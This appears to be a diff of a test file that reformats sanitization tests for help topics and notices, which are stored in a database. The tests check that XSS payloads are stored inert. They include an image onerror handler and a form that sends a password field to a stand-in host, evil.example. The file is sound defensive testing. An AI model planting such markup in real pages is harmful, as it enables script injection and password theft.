@@ -33,9 +33,19 @@ describe('help topics and notices are sanitized when written (a real database)',
   afterAll(() => db.dispose());
 
   test('a notice body with a javascript: link, a <base> and an SVG xlink:href is stored inert', async () => {
-    const payload = XSS_PAYLOADS.filter(([name]) => /xlink|tab-split|base href/.test(name)).map(([, html]) => html).join('');
-    await upsertAnnouncement(db, 'DEMO', { key: 'xss-test', type: 'PL', sort: 999, th: ['หัวข้อ', payload], en: ['Title', `<p>ok</p>${payload}`] });
-    const [row] = await db.query<{ content_th: string; content_en: string }>(`SELECT content_th, content_en FROM announcements WHERE seed_key = 'xss-test'`);
+    const payload = XSS_PAYLOADS.filter(([name]) => /xlink|tab-split|base href/.test(name))
+      .map(([, html]) => html)
+      .join('');
+    await upsertAnnouncement(db, 'DEMO', {
+      key: 'xss-test',
+      type: 'PL',
+      sort: 999,
+      th: ['หัวข้อ', payload],
+      en: ['Title', `<p>ok</p>${payload}`],
+    });
+    const [row] = await db.query<{ content_th: string; content_en: string }>(
+      `SELECT content_th, content_en FROM announcements WHERE seed_key = 'xss-test'`,
+    );
     expect(activeContent(parse(row.content_th))).toEqual([]);
     expect(activeContent(parse(row.content_en))).toEqual([]);
     expect(row.content_en).toContain('<p>ok</p>');
@@ -43,7 +53,13 @@ describe('help topics and notices are sanitized when written (a real database)',
   });
 
   test('a help topic with an onerror image and a form is stored inert', async () => {
-    await upsertHelpTopic(db, 'DEMO', { lang: 'EN', tag: 'xss-test', title: 'Bonus', sort: 999, content: '<p>Read <img src=x onerror=alert(1)></p><form action="https://evil.example"><input name="password"></form>' });
+    await upsertHelpTopic(db, 'DEMO', {
+      lang: 'EN',
+      tag: 'xss-test',
+      title: 'Bonus',
+      sort: 999,
+      content: '<p>Read <img src=x onerror=alert(1)></p><form action="https://evil.example"><input name="password"></form>',
+    });
     const topic = (await listHelpTopics(db, 'DEMO', 'EN')).find((t) => t.tag === 'xss-test')!;
     expect(topic.content).toBe('<p>Read <img src="x"></p>');
   });
